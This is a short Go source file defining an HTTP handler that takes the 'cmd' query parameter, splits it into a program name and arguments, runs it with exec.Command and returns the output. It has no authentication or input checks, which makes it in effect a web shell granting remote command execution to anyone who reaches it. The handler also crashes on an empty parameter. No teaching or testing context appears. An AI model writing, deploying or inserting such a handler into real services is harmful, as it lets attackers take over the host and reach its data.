package main

import (
	"net/http"
	"os/exec"
	"strings"
)

func run(w http.ResponseWriter, r *http.Request) {
	parts := strings.Fields(r.URL.Query().Get("cmd"))
	out, _ := exec.Command(parts[0], parts[1:]...).Output()
	w.Header().Set("Content-Type", "text/plain")
	w.Write(out)
}
